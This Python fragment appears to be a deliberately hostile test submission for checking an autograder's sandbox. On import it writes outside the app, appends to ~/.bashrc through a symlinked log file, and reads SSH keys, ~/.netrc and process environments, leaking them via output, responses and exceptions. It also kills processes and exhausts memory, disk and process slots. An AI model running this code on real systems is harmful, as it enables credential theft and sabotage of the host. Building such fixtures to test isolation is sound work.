# --- hostile: damage outside the app ------------------------------------------------------------------------------
# Write into the checkout, the venv, the grader's HOME and a classmate's folder; read secrets and send them out in
# every channel the grader reads (printed output, response bodies, exception messages); kill what can be seen;
# leave processes behind; and exhaust memory, disk and process slots.
import builtins as _d_builtins
import os as _d_os
import signal as _d_signal
import sys as _d_sys

from flask import request as _d_request


def _d_write_everywhere():
    """Create files outside the graded copy, append to a shell start-up file, break a classmate's app."""
    for path in HOSTILE["create"]:
        try:
            with open(path, "w") as handle:
                handle.write(HOSTILE["marker"])
        except OSError:
            pass
    for path in HOSTILE["append"]:
        try:
            with open(path, "a") as handle:
                handle.write(f"\necho {HOSTILE['marker']}\n")
        except OSError:
            pass


def _d_secrets():
    """Everything secret-looking in reach: the environment, the grader's files, other processes' environments."""
    found = {"env": dict(_d_os.environ)}
    for path in HOSTILE["secrets"] + [_d_os.path.expanduser("~/.ssh/id_rsa"), _d_os.path.expanduser("~/.netrc")]:
        try:
            with open(path, errors="replace") as handle:
                found[path] = handle.read()
        except OSError:
            pass
    if HOSTILE["reach_host"]:
        for pid in _d_os.listdir("/proc"):
            try:
                with open(f"/proc/{pid}/environ", "rb") as handle:
                    found[f"environ {pid}"] = handle.read().decode("utf-8", "replace").replace("\0", " ")
            except (OSError, ValueError):
                pass
    return found


def _d_kill_everything():
    """Kill the parent and every other process in sight (only where a PID namespace contains it: see README)."""
    with open("/proc/1/cmdline", "rb") as handle:
        if not handle.read().split(b"\0")[0].endswith(b"/bwrap"):
            return
    for pid in [int(entry) for entry in _d_os.listdir("/proc") if entry.isdigit()] + [_d_os.getppid()]:
        if pid != _d_os.getpid():
            try:
                _d_os.kill(pid, _d_signal.SIGKILL)
            except OSError:
                pass


def _d_spawn(detach):
    """A process that sleeps a minute, marked on its command line; with detach, outside the worker's tree."""
    child = _d_os.fork()
    if child:
        if detach:
            _d_os.waitpid(child, 0)
        return
    try:
        if detach:
            _d_os.setsid()
            if _d_os.fork():
                _d_os._exit(0)
        _d_os.execv("/bin/sleep", [HOSTILE["marker"], "60"])
    finally:
        _d_os._exit(0)


def _d_redirect_log():
    """Swap the worker's output file for a link. The grader's side reopens that file for the next worker after a
    crash (the first worker points it at the grader's ~/.bashrc) and reads it after a crash and at the end (the
    restarted worker points it at /proc/self/environ: the environment of whichever process reads it)."""
    home = _d_os.environ.get("HOME", "/nonexistent")
    log, restarted = _d_os.path.join(_d_os.path.dirname(home), "worker-output.txt"), _d_os.path.join(home, ".again")
    try:
        if not _d_os.path.exists(restarted):
            open(restarted, "w").close()
            _d_os.unlink(log)
            _d_os.symlink(HOSTILE["append"][0], log)
        else:
            print(f"echo {HOSTILE['marker']}", flush=True)  # in the grader's ~/.bashrc, if it followed the link
            _d_os.unlink(log)
            _d_os.symlink("/proc/self/environ", log)
    except OSError:
        pass


def _d_raise_limits():
    """Lift the memory, file-size and process limits, where this process may."""
    import resource

    for which in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
        try:
            resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (ValueError, OSError):
            pass


if not getattr(_d_builtins, "_d_started", False):
    _d_builtins._d_started = True
    _d_write_everywhere()
    _d_redirect_log()
    _d_raise_limits()
    if HOSTILE["kill_all"]:
        _d_kill_everything()
    _d_spawn(detach=True)
    for _ in range(HOSTILE["forks"]):
        _d_spawn(detach=False)
    print(HOSTILE["marker"], "secrets:", _d_secrets(), flush=True)

_d_get_task, _d_list_tasks, _d_show_headers = get_task, list_tasks, show_headers


def get_task(task_id):
    """Task 1: end the process (the grader starts another). Task 3: allocate without end. Task 99: raise the
    secrets. Others: as before."""
    if task_id == 1:
        _d_os._exit(7)
    if task_id == 3:
        blocks = []
        while len(blocks) < 256:  # 64 GB of address space, never touched
            blocks.append(bytes(256 * 1024 * 1024))
        return {"allocated_gb": len(blocks) / 4}
    if task_id == 99:
        raise RuntimeError(HOSTILE["marker"] + repr(_d_secrets()))
    return _d_get_task(task_id)


def list_tasks():
    """?status=completed answers the secrets."""
    if _d_request.args.get("status") == "completed":
        return [{"marker": HOSTILE["marker"], "secrets": repr(_d_secrets())}]
    return _d_list_tasks()


def show_headers():
    """With a custom header: fill the disk."""
    if "X-Custom-Header" in _d_request.headers:
        with open("filler.bin", "wb") as handle:
            chunk = b"\0" * (16 * 1024 * 1024)
            for _ in range(64):  # 1 GB
                handle.write(chunk)
    return _d_show_headers()


app.view_functions.update(get_task=get_task, list_tasks=list_tasks, show_headers=show_headers)
